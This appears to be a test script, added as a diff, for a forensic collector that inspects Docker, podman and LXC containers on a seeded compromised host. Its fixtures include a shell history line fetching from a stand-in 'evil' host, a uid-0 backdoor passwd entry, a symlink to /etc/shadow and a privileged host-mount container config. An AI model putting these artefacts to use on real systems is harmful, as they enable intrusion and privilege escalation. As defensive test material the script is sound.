@@ -1,0 +1,183 @@
+#!/bin/bash
+# Copyright 2026 csirt-collect developers
+# SPDX-License-Identifier: Apache-2.0
+#
+# Containers without their CLIs (issue 19): a fixture root with a docker
+# data root (a container's config.v2.json, hostconfig.json and json log,
+# its overlay2 writable layer holding an added file, a changed file, a
+# whiteout and a symlink pointing out of the layer, the lower layer it
+# names through an l/ link, a second container whose config is cut
+# short), a podman containers.json with its layer and an LXC config;
+# run dead-box, the records, the docker diff, the bodyfile (mactime -b),
+# the copies' hashes and the caps are checked. Live: an overlay mount
+# made in a private mount namespace and a process moved into a fake
+# docker cgroup, with the agent under strace (no program run).
+. "$(dirname "$0")/lib.sh"
+
+for c in jq zstd mactime python3 sha256sum; do
+	command -v $c >/dev/null || { skip "$c missing"; exit 0; }
+done
+
+ID=$(printf 'c0ffee%.0s' $(seq 10))c0ffeec0
+ID=${ID:0:64}
+BAD=$(printf 'bad0%.0s' $(seq 16))
+MID=9f1e2d3c4b5a69788796a5b4c3d2e1f09f1e2d3c4b5a69788796a5b4c3d2e1f0
+LOW=1111111111111111111111111111111111111111111111111111111111111111
+PID_=$(printf 'abcd%.0s' $(seq 16))
+PLAYER=2222222222222222222222222222222222222222222222222222222222222222
+
+R=$T/root
+make_fixture "$R"
+D=$R/var/lib/docker
+mkdir -p "$D/containers/$ID" "$D/containers/$BAD" \
+	"$D/image/overlay2/layerdb/mounts/$ID" "$D/overlay2/l" \
+	"$D/overlay2/$MID/diff/etc" "$D/overlay2/$MID/diff/tmp/.x" \
+	"$D/overlay2/$MID/diff/usr/bin" "$D/overlay2/$MID/diff/root" \
+	"$D/overlay2/$LOW/diff/etc" "$D/overlay2/$LOW/diff/usr/bin"
+cat >"$D/containers/$ID/config.v2.json" <<JSON
+{"ID":"$ID","Name":"/evil_box","Created":"2026-11-30T10:00:00.123Z",
+ "Image":"sha256:5d5d","Path":"/bin/sh","Args":["-c","sleep 1d"],
+ "Driver":"overlay2","State":{"Running":true,"Pid":4242,
+ "StartedAt":"2026-11-30T10:00:01Z"},
+ "Config":{"Image":"alpine:3.19","Hostname":"evilhost","User":"root",
+ "Env":["SECRET=never-in-the-record"]},
+ "MountPoints":{"/data":{"Source":"/srv/data","Destination":"/data",
+ "RW":true,"Type":"bind"}}}
+JSON
+printf '{"Privileged":true,"CapAdd":["SYS_ADMIN","NET_ADMIN"],"NetworkMode":"host","PidMode":"host","Binds":["/:/host"]}' \
+	>"$D/containers/$ID/hostconfig.json"
+printf '{"log":"pwned\\n","stream":"stdout","time":"2026-11-30T10:00:02Z"}\n' \
+	>"$D/containers/$ID/$ID-json.log"
+# Cut short: not JSON, reported, the run goes on.
+printf '{"ID":"%s","Name":"/half","Conf' "$BAD" >"$D/containers/$BAD/config.v2.json"
+printf '{"Repositories":{"alpine":{"alpine:3.19":"sha256:5d5d"}}}' \
+	>"$D/image/overlay2/repositories.json"
+printf '%s' "$MID" >"$D/image/overlay2/layerdb/mounts/$ID/mount-id"
+printf 'l/LOWSHORT' >"$D/overlay2/$MID/lower"
+ln -s "../$LOW/diff" "$D/overlay2/l/LOWSHORT"
+# The lower layer: the image's passwd and wget.
+printf 'root:x:0:0::/root:/bin/sh\n' >"$D/overlay2/$LOW/diff/etc/passwd"
+printf 'ELF wget\n' >"$D/overlay2/$LOW/diff/usr/bin/wget"
+# The writable layer: passwd changed, a dropper added, wget deleted,
+# a link out of the layer (never followed).
+U=$D/overlay2/$MID/diff
+printf 'root:x:0:0::/root:/bin/sh\nevil:x:0:0::/:/bin/sh\n' >"$U/etc/passwd"
+head -c 5000 /dev/urandom >"$U/tmp/.x/run"
+touch -m -d '2024-05-05 05:05:05 UTC' "$U/tmp/.x/run"
+mknod "$U/usr/bin/wget" c 0 0
+ln -s /etc/shadow "$U/root/escape"
+printf 'host secret\n' >"$R/etc/shadow"
+RUN_SHA=$(sha256sum "$U/tmp/.x/run" | cut -d' ' -f1)
+PW_SHA=$(sha256sum "$U/etc/passwd" | cut -d' ' -f1)
+# podman
+P=$R/var/lib/containers/storage
+mkdir -p "$P/overlay-containers" "$P/overlay/$PLAYER/diff/root"
+printf '[{"id":"%s","names":["web"],"image":"3333","layer":"%s","metadata":"{\\"image-name\\":\\"docker.io/library/nginx:latest\\",\\"name\\":\\"web\\"}","created":"2026-11-29T08:00:00Z"},{"id":"../../etc","layer":"x"}]' \
+	"$PID_" "$PLAYER" >"$P/overlay-containers/containers.json"
+printf 'wget http://evil/x\n' >"$P/overlay/$PLAYER/diff/root/.ash_history"
+# LXC
+mkdir -p "$R/var/lib/lxc/web1"
+printf '# LXC\nlxc.uts.name = web1host\nlxc.rootfs.path = dir:/var/lib/lxc/web1/rootfs\nlxc.net.0.type = veth\nlxc.cap.drop = sys_module\n' \
+	>"$R/var/lib/lxc/web1/config"
+
+# run OUT ARGS...: the agent, its archive extracted into OUT/x.
+run() {
+	out=$1; shift
+	mkdir -p "$out/o" "$out/x"
+	"$CC_BIN" run --output "$out/o" --no-yara -q "$@" >"$out/stdout" 2>"$out/stderr"
+	echo $? >"$out/rc"
+	a=$(archive_in "$out/o")
+	[ -n "$a" ] && zstd -dc "$a" | tar -x -C "$out/x"
+}
+run "$T/d" --root "$R"
+X=$T/d/x
+C=$X/live/containers.jsonl
+check "dead-box run exits 0" test "$(cat "$T/d/rc")" = 0
+check "docker record: name, image, state, pid, command, mount, driver" \
+	jqe --arg id "$ID" -s 'any(.[]; .id==$id and .runtime=="docker" and
+	.name=="evil_box" and .image=="alpine:3.19" and
+	.image_id=="sha256:5d5d" and .running==true and .pid==4242 and
+	.created=="2026-11-30T10:00:00.123Z" and .hostname=="evilhost" and
+	.command==["/bin/sh","-c","sleep 1d"] and .driver=="overlay2" and
+	.mounts[0].source=="/srv/data" and .mounts[0].destination=="/data")' "$C"
+check "docker record: hostconfig privileged, cap_add, network and pid mode" \
+	jqe --arg id "$ID" -s 'any(.[]; .id==$id and .privileged==true and
+	.cap_add==["SYS_ADMIN","NET_ADMIN"] and .network_mode=="host" and
+	.pid_mode=="host" and .binds==["/:/host"])' "$C"
+check "docker record: the environment is not copied into it" \
+	sh -c "test -s '$C' && ! grep -q never-in-the-record '$C'"
+check "docker record: upperdir from layerdb mount-id, lowerdir through l/" \
+	jqe --arg id "$ID" --arg u "/var/lib/docker/overlay2/$MID/diff" \
+	--arg l "/var/lib/docker/overlay2/$LOW/diff" -s 'any(.[]; .id==$id and
+	.upperdir==$u and .lowerdir==[$l] and .diff_added>=1 and
+	.diff_changed>=1 and .diff_deleted==1 and .upper_truncated==false)' "$C"
+check "the truncated config.v2.json: an error in the manifest, no record" \
+	jqe --arg b "$BAD" 'any(.errors[]; (.path|endswith($b+"/config.v2.json"))
+	and (.error|test("malformed|truncated")))' "$X/manifest.json"
+check "no record for the truncated container" \
+	sh -c "test -s '$C' && ! grep -q '$BAD' '$C'"
+check "podman record: name, image, layer as upperdir; unsafe id left out" \
+	jqe -s --arg id "$PID_" --arg u "/var/lib/containers/storage/overlay/$PLAYER/diff" \
+	'any(.[]; .id==$id and .runtime=="podman" and .name=="web" and
+	.image=="docker.io/library/nginx:latest" and .upperdir==$u and
+	.diff_added==2) and all(.[]; .id != "../../etc")' "$C"
+check "LXC record: hostname, rootfs, nets, cap_drop, privileged" \
+	jqe -s 'any(.[]; .runtime=="lxc" and .id=="web1" and .hostname=="web1host"
+	and .rootfs=="dir:/var/lib/lxc/web1/rootfs" and .nets==["veth"] and
+	.cap_drop==["sys_module"] and .privileged==true)' "$C"
+check "dead-box: no pids" jqe -s 'all(.[]; .pids==[])' "$C"
+
+DF=$X/containers/$ID/diff.jsonl
+check "diff: C /etc/passwd (in the lower layer), copied with its sha256" \
+	jqe --arg s "$PW_SHA" -s 'any(.[]; .change=="C" and .path=="/etc/passwd"
+	and .type=="file" and .copied==true and .sha256==$s)' "$DF"
+check "diff: A /tmp/.x/run, copied" \
+	jqe --arg s "$RUN_SHA" -s 'any(.[]; .change=="A" and .path=="/tmp/.x/run"
+	and .sha256==$s)' "$DF"
+check "diff: D /usr/bin/wget (whiteout)" \
+	jqe -s 'any(.[]; .change=="D" and .path=="/usr/bin/wget" and .type=="whiteout")' "$DF"
+check "diff: C /usr/bin and /etc directories, A /tmp/.x" \
+	jqe -s 'any(.[]; .change=="C" and .path=="/usr/bin" and .type=="dir")
+	and any(.[]; .change=="A" and .path=="/tmp/.x")' "$DF"
+check "diff: the symlink out of the layer is recorded, never followed" \
+	jqe -s 'any(.[]; .path=="/root/escape" and .type=="symlink" and
+	.link_target=="/etc/shadow" and (has("copied")|not))' "$DF"
+check "the link's target is not in the archive under the container" \
+	sh -c "test -d '$X/containers/$ID/upper/tmp' && ! grep -rq 'host secret' '$X/containers' && ! jq -e 'any(.entries[]; .path|endswith(\"/root/escape\"))' '$X/manifest.json' >/dev/null"
+check "the copy of /tmp/.x/run: sha256 = sha256sum" \
+	test "$(sha256sum "$X/containers/$ID/upper/tmp/.x/run" | cut -d' ' -f1)" = "$RUN_SHA"
+check "the copy in the manifest: hash and source" \
+	jqe --arg p "containers/$ID/upper/tmp/.x/run" --arg s "$RUN_SHA" \
+	--arg src "/var/lib/docker/overlay2/$MID/diff/tmp/.x/run" \
+	'any(.entries[]; .path==$p and .sha256==$s and .source==$src)' "$X/manifest.json"
+BF=$X/containers/$ID/upperdir.bodyfile
+check "bodyfile: one line per layer entry" \
+	test "$(wc -l <"$BF")" = "$(jq -s length "$DF")"
+mactime -b "$BF" -d -z UTC >"$T/mactime" 2>"$T/mactime.err"
+check "bodyfile: mactime -b reads it (the dropper and the whiteout)" \
+	sh -c "grep -q '^Sun May 05 2024 05:05:05,5000,m...,-rw-r--r--,0,0,[0-9]*,\"/tmp/.x/run\"$' '$T/mactime' && grep -q ',\"/usr/bin/wget\"$' '$T/mactime' && ! test -s '$T/mactime.err'"
+check "artefacts: docker config, hostconfig and repositories.json copied" \
+	test -f "$X/files/var/lib/docker/containers/$ID/config.v2.json" -a \
+	-f "$X/files/var/lib/docker/containers/$ID/hostconfig.json" -a \
+	-f "$X/files/var/lib/docker/image/overlay2/repositories.json" -a \
+	-f "$X/files/var/lib/lxc/web1/config" -a \
+	-f "$X/files/var/lib/containers/storage/overlay-containers/containers.json"
+check "triage leaves the container logs out" \
+	test -f "$X/files/var/lib/docker/containers/$ID/config.v2.json" -a \
+	! -e "$X/files/var/lib/docker/containers/$ID/$ID-json.log"
+
+# The caps: one file per container, then the copy stops and says so.
+printf '[limits]\ncontainer_upper_files = 1\n' >"$T/cap.ini"
+run "$T/c" --root "$R" -c "$T/cap.ini" -p LinuxDockerContainerLogs
+X=$T/c/x
+check "capped run exits 0" test "$(cat "$T/c/rc")" = 0
+check "capped: upper_truncated, one file copied" \
+	jqe --arg id "$ID" -s 'any(.[]; .id==$id and .upper_truncated==true and
+	.upper_files_copied==1 and .upper_not_copied==1)' "$X/live/containers.jsonl"
+check "capped: the diff still lists every entry, one not copied" \
+	jqe -s 'any(.[]; .copied==false) and any(.[]; .change=="D")' \
+	"$X/containers/$ID/diff.jsonl"
+check "capped: collection.log says the copy was cut" \
+	grep -q "cut at" "$X/collection.log"
+check "LinuxDockerContainerLogs: the json log collected" \
+	test -f "$X/files/var/lib/docker/containers/$ID/$ID-json.log"
